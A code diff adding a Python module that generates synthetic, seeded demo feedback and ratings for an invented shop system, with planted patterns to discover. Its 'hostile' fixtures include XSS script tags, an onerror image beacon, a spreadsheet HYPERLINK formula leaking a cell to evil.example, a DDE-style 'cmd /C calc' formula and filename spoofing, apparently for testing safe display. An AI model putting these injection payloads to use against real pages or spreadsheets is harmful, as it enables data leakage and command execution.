@@ -1,0 +1,372 @@
+"""The demo project: a year and a half of feedback on a made-up shop system, with a story planted in it.
+
+`PLANTED` writes down what is there to be found. All else is everyday noise: a steady mix of types that follows the week
+and, a little, the season. The same seed and end give the same records.
+"""
+
+from __future__ import annotations
+
+import random
+import uuid
+from dataclasses import dataclass
+from datetime import UTC, datetime, time, timedelta, timezone
+from typing import TYPE_CHECKING, Final
+
+import numpy as np
+
+from seggwat_nb.demo import phrases
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator, Sequence
+
+    from seggwat_nb.demo.phrases import Talk
+    from seggwat_nb.demo.state import Record
+
+__all__ = ["DAYS", "PLANTED", "Planted", "docs_feedback", "shop_feedback", "shop_ratings"]
+
+DAYS: Final = 548
+"""Eighteen months."""
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Planted:
+    """What is there to be found in the demo project.
+
+    Attributes
+    ----------
+    releases : tuple of str
+        Versions in order; each is live for an equal part of the time.
+    broken_release, broken_path : str
+        The release that breaks paying, and where; about two in three of its items are bugs, of others one in three.
+    growing_path, growing_type : str
+        A request that hardly anybody made until eight weeks ago, and ever more people since.
+    loud_submitter : str
+        One person who sent ``loud_items`` items on one day, ``loud_days_ago`` days before the end.
+    near_duplicates : tuple of tuple of str
+        Messages that say the same in almost the same words, each from somebody else.
+    hostile : tuple of str
+        Messages that try something.
+    unknown : tuple of (str, str)
+        Column and value that no vocabulary knows; three items each.
+    personal : tuple of str
+        Addresses and numbers that stand in messages.
+    """
+
+    releases: tuple[str, ...]
+    broken_release: str
+    broken_path: str
+    growing_path: str
+    growing_type: str
+    loud_submitter: str
+    loud_items: int
+    loud_days_ago: int
+    near_duplicates: tuple[tuple[str, ...], ...]
+    hostile: tuple[str, ...]
+    unknown: tuple[tuple[str, str], ...]
+    personal: tuple[str, ...]
+
+
+PLANTED: Final = Planted(
+    releases=(
+        "1.8.0",
+        "1.9.0",
+        "1.10.0",
+        "1.11.0",
+        "2.0.0",
+        "2.1.0",
+        "2.2.0",
+        "2.3.0",
+        "2.4.0",
+        "2.5.0",
+        "2.6.0",
+        "2.7.0",
+    ),
+    broken_release="2.4.0",
+    broken_path="/checkout/payment",
+    growing_path="/reports/export",
+    growing_type="Feature",
+    loud_submitter="loud.customer@example.com",
+    loud_items=40,
+    loud_days_ago=100,
+    near_duplicates=(
+        (
+            "Please add a dark mode to the admin pages, my eyes hurt at night.",
+            "please add a dark mode to the admin pages, my eyes hurt at night",
+            "Please add a dark mode for the admin pages, my eyes hurt at night!",
+            "Pls add a dark mode to the admin pages, my eyes hurt at night.",
+            "Please add dark mode to the admin pages - my eyes hurt at night.",
+            "Please add a dark mode to the admin page, my eyes do hurt at night.",
+        ),
+        (
+            "The password reset mail never arrives, not even in the spam folder.",
+            "The password reset mail never arrives, not even in spam folder",
+            "the password-reset mail never arrives, not even in the spam folder!!",
+            "Password reset mail never arrives, not even in the spam folder.",
+        ),
+    ),
+    hostile=(
+        "</script><script>window.seggwatTrap = true</script> The page breaks when I paste this.",
+        '<img src="https://tracker.example/pixel.png" onerror="window.seggwatTrap = true">',
+        '=HYPERLINK("https://evil.example/?q="&A1, "Click for your refund")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1 for this",
+        "-- please, no more pop-ups",
+        "Invoice \u202egpj.exe\u202c was attached to my order.",
+        "![picture](https://tracker.example/p.png) closes #1, thanks @everyone",
+        "<!channel> <!here> everything is down, see <https://evil.example|our status page>",
+        "Z\u0351\u036e\u0343a\u0364\u0363l\u036dg\u0342o\u0366 text spills over the line 🧨\x07",
+        "Two\nlines,\r\nthree\tcolumns; \"quotes\" and 'more'",
+        "This goes on and on. " * 190,
+    ),
+    unknown=(("type", "Idea"), ("status", "Snoozed"), ("source", "Zendesk")),
+    personal=("jo.sample@example.org", "+1 555 0142", "maria.muster@example.com", "(555) 010-0199"),
+)
+
+_TYPES: Final = {"Bug": 0.30, "Feature": 0.18, "Improvement": 0.17, "Question": 0.15, "Praise": 0.14, "Other": 0.06}
+_SOURCES: Final = {"Widget": 0.74, "Manual": 0.10, "SocialShare": 0.06, "Stripe": 0.06, "Polar": 0.04}
+_CANCELLATIONS: Final = ("Stripe", "Polar")
+_GROWTH: Final = (1, 1, 2, 3, 5, 7, 9, 11)
+"""Requests for scheduled exports in each of the last eight weeks."""
+
+_BROKEN_EXTRA: Final = 2.6
+"""Bugs a day about paying while the broken release is live."""
+
+_RATED: Final = ("/cart", "/checkout/payment", "/search", "/help/shipping", "/help/returns", "/products")
+_RATE: Final = 3.3
+_WEEKEND: Final = 5
+_OFFSET: Final = timezone(timedelta(hours=2))
+
+
+def shop_feedback(*, seed: int, end: datetime, project_id: str) -> list[Record]:
+    """Make the shop's feedback, in the API's shape."""
+    maker = _Maker(seed, end, project_id)
+    records = [maker.everyday(moment) for moment in maker.moments(_RATE)]
+    records += [
+        maker.broken(moment)
+        for moment in maker.moments(_BROKEN_EXTRA)
+        if maker.release(moment) == PLANTED.broken_release
+    ]
+    records += [maker.growing(moment) for moment in maker.growing_moments()]
+    records += list(maker.loud())
+    records += list(maker.repeated())
+    records += list(maker.strange())
+    return records
+
+
+def docs_feedback(*, seed: int, end: datetime, project_id: str) -> list[Record]:
+    """Make the manual's feedback: a second, smaller project without a story."""
+    maker = _Maker(seed + 1, end, project_id)
+    return [maker.said(phrases.DOCS, moment, source="Mintlify", version=None) for moment in maker.moments(0.55)]
+
+
+def shop_ratings(*, seed: int, end: datetime, project_id: str) -> list[Record]:
+    """Make the shop's ratings, in both shapes of the API."""
+    maker = _Maker(seed + 2, end, project_id)
+    return [maker.rating(moment) for moment in maker.moments(2.75)]
+
+
+class _Maker:
+    """Makes records by chance, always the same for one seed and end."""
+
+    def __init__(self, seed: int, end: datetime, project_id: str) -> None:
+        self._chance = random.Random(seed)  # noqa: S311  # a story, no secret
+        self._counts = np.random.default_rng(seed)
+        self._end = end
+        self._start = end - timedelta(days=DAYS)
+        self._project_id = project_id
+        self._people = [self._person(number) for number in range(420)]
+
+    def moments(self, rate: float) -> list[datetime]:
+        """Draw when something happens: fewer at weekends, by day more than by night, a little more in winter."""
+        midnight = datetime.combine(self._start.date(), time(), UTC)
+        days = np.arange(DAYS + 1)
+        weekday = (midnight.weekday() + days) % 7
+        season = 1 + 0.12 * np.cos(2 * np.pi * (midnight.timetuple().tm_yday + days) / 365.25)
+        expected = rate * np.where(weekday >= _WEEKEND, 0.55, 1.18) * season
+        found = [
+            midnight + timedelta(days=int(day), hours=self._chance.triangular(0, 24, 14))
+            for day, count in enumerate(self._counts.poisson(expected))
+            for _ in range(count)
+        ]
+        return [moment for moment in found if self._start <= moment <= self._end]
+
+    def growing_moments(self) -> Iterator[datetime]:
+        """Draw when people ask for scheduled exports."""
+        for week, count in enumerate(reversed(_GROWTH)):
+            for _ in range(count):
+                yield self._end - timedelta(days=7 * week + self._chance.uniform(0, 7))
+        for _ in range(6):
+            yield self._end - timedelta(days=self._chance.uniform(90, DAYS))
+
+    def release(self, moment: datetime) -> str:
+        """Tell the release that was live."""
+        place = (moment - self._start) / timedelta(days=DAYS) * len(PLANTED.releases)
+        return PLANTED.releases[min(int(place), len(PLANTED.releases) - 1)]
+
+    def everyday(self, moment: datetime) -> Record:
+        source = self._one_of(_SOURCES)
+        if source in _CANCELLATIONS:
+            return self.said(phrases.CANCELLED, moment, source=source, type="Other", version=None, path=None)
+        kind = self._one_of(_TYPES)
+        version = f"{moment:%Y.%m}" if source == "SocialShare" else self._spelling(moment)
+        record = self.said(phrases.BY_TYPE[kind], moment, source=source, type=kind, version=version)
+        if self._chance.random() < 0.04:
+            record["message"] += f" Write to {PLANTED.personal[0]} or call {PLANTED.personal[1]}."
+        elif kind in phrases.OTHER_TONGUES and self._chance.random() < 0.04:
+            record["message"] = self._chance.choice(phrases.OTHER_TONGUES[kind])
+        return record
+
+    def broken(self, moment: datetime) -> Record:
+        return self.said(phrases.BROKEN, moment, type="Bug", version=self._spelling(moment, always=True))
+
+    def growing(self, moment: datetime) -> Record:
+        return self.said(phrases.GROWING, moment, type=PLANTED.growing_type, version=None)
+
+    def loud(self) -> Iterator[Record]:
+        day = datetime.combine((self._end - timedelta(days=PLANTED.loud_days_ago)).date(), time(8), UTC)
+        for number in range(PLANTED.loud_items):
+            record = self.said(phrases.LOUD, day + timedelta(minutes=13 * number), type="Other", version=None)
+            yield record | {"submitted_by": PLANTED.loud_submitter}
+
+    def repeated(self) -> Iterator[Record]:
+        """Say planted messages again, by different people over some weeks."""
+        for group, kind in zip(PLANTED.near_duplicates, ("Feature", "Bug"), strict=True):
+            for number, message in enumerate(group):
+                moment = self._end - timedelta(days=150 + 6 * number, hours=self._chance.uniform(0, 20))
+                version = self._spelling(moment)
+                record = self.said(phrases.BY_TYPE[kind], moment, type=kind, version=version)
+                yield record | {"message": message, "submitted_by": self._people[7 * number + len(group)]}
+
+    def strange(self) -> Iterator[Record]:
+        """Plant what tries something, and what no vocabulary knows; two items share a moment."""
+        for number, message in enumerate(PLANTED.hostile):
+            moment = self._end - timedelta(days=2 + 31 * number, hours=3)
+            record = self.said(phrases.BY_TYPE["Other"], moment, type="Other", version=None)
+            yield (
+                record | {"message": message, "path": f"/{message[:30]}"}
+                if number < 2
+                else record | {"message": message}
+            )
+        for column, value in PLANTED.unknown:
+            for number in range(3):
+                moment = self._end - timedelta(days=20 + 97 * number, hours=5)
+                yield self.said(phrases.BY_TYPE["Question"], moment, version=None) | {column: value}
+        late = self._end - timedelta(days=9)
+        address, phone = PLANTED.personal[2:]
+        record = self.said(phrases.BY_TYPE["Question"], late, version=None)
+        yield record | {"message": f"Reach me at {address} or {phone}."}
+
+    def said(
+        self,
+        talk: Talk,
+        moment: datetime,
+        *,
+        version: str | None,
+        source: str = "Widget",
+        type: str = "Question",  # noqa: A002  # the API's word
+        path: str | None = "",
+    ) -> Record:
+        """Put a message together; keys that an app does not send are absent or null, as it comes."""
+        where, core = self._chance.choice(talk.cores)
+        record: Record = {
+            "id": self._id(),
+            "project_id": self._project_id,
+            "message": self._filled(f"{core} {self._chance.choice(talk.details)}"),
+            "status": self._status(moment),
+            "type": type,
+            "source": source,
+            "created_at": self._written(moment),
+            "archived": False,
+        }
+        note = self._chance.choice(phrases.NOTES) if record["status"] in {"Resolved", "Closed"} else None
+        person = self._chance.choice(self._people) if self._chance.random() < 0.65 else None
+        optional = {
+            "path": None if path is None else self._filled(where) or None,
+            "version": version,
+            "submitted_by": person,
+            "resolution_note": note if self._chance.random() < 0.5 else None,
+        }
+        return record | {
+            key: value for key, value in optional.items() if value is not None or self._chance.random() < 0.3
+        }
+
+    def rating(self, moment: datetime) -> Record:
+        path = self._chance.choice(
+            ("/cart", "/checkout/payment", "/search", "/help/shipping", "/help/returns", "/products")
+        )
+        hurt = path == PLANTED.broken_path and self.release(moment) == PLANTED.broken_release
+        record: Record = {
+            "id": self._id(),
+            "project_id": self._project_id,
+            "path": path,
+            "version": self._spelling(moment),
+            "archived": False,
+            "created_at": self._written(moment),
+        }
+        if self._chance.random() < 0.5:
+            record["submitted_by"] = self._chance.choice(self._people)
+        kind = self._chance.choices(("helpful", "star", "nps"), (0.55, 0.27, 0.18))[0]
+        if kind == "helpful":
+            answer = self._chance.random() < (0.25 if hurt else 0.74)
+            if self._chance.random() < 0.4:
+                return record | {"value": answer}
+            return record | {"rating_type": kind, "value": {"type": kind, "value": answer}}
+        if kind == "star":
+            longest = self._chance.choices((5, 3), (0.8, 0.2))[0]
+            step = 2 if longest == 5 else 1
+            mean = longest * (0.4 if hurt else 0.78)
+            stars = round(min(longest, max(1, self._chance.gauss(mean, longest / 6))) * step) / step
+            return record | {"rating_type": kind, "value": {"type": kind, "value": stars, "max_stars": longest}}
+        score = round(min(10, max(0, self._chance.gauss(4 if hurt else 8, 2))))
+        return record | {"rating_type": kind, "value": {"type": kind, "value": score}}
+
+    def _status(self, moment: datetime) -> str:
+        """Age a status: the older an item, the likelier it is done with."""
+        age = (self._end - moment) / timedelta(days=1)
+        if self._chance.random() < 1 - 0.5 ** (age / 45):
+            return "Resolved" if self._chance.random() < 0.7 else "Closed"
+        return self._chance.choices(("New", "Active", "Assigned", "Hold"), (60 / (age + 1) + 1, 2, 1, 0.6))[0]
+
+    def _spelling(self, moment: datetime, *, always: bool = False) -> str | None:
+        """Spell the live release as one app or another does."""
+        release = self.release(moment)
+        chance = self._chance.random()
+        if always or chance < 0.62:
+            return release
+        if chance < 0.78:
+            return f"v{release}"
+        following = PLANTED.releases[(PLANTED.releases.index(release) + 1) % len(PLANTED.releases)]
+        rare: Sequence[str | None] = (
+            f"{following}-beta.2",
+            f"{release}-12-g{self._chance.getrandbits(28):07x}",
+            "main",
+            "",
+            None,
+        )
+        return self._chance.choice(rare)
+
+    def _filled(self, text: str) -> str:
+        text = text.replace("{id}", f"{self._chance.getrandbits(48):012x}")
+        for name, choices in phrases.FILLERS.items():
+            text = text.replace(f"{{{name}}}", self._chance.choice(choices))
+        return text[:1].upper() + text[1:]
+
+    def _written(self, moment: datetime) -> str:
+        """Write a moment as one client or another does."""
+        style = self._chance.randrange(4)
+        if style == 0:
+            return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")
+        if style == 1:
+            return moment.astimezone(_OFFSET).isoformat(timespec="seconds")
+        return moment.isoformat(timespec="seconds").replace("+00:00", "Z")
+
+    def _id(self) -> str:
+        if self._chance.random() < 0.5:
+            return f"{self._chance.getrandbits(96):024x}"
+        return str(uuid.UUID(int=self._chance.getrandbits(128), version=4))
+
+    def _person(self, number: int) -> str:
+        return f"customer{number}@example.com" if number % 2 else f"user_{self._chance.getrandbits(40):010x}"
+
+    def _one_of(self, weights: dict[str, float]) -> str:
+        return self._chance.choices(list(weights), list(weights.values()))[0]
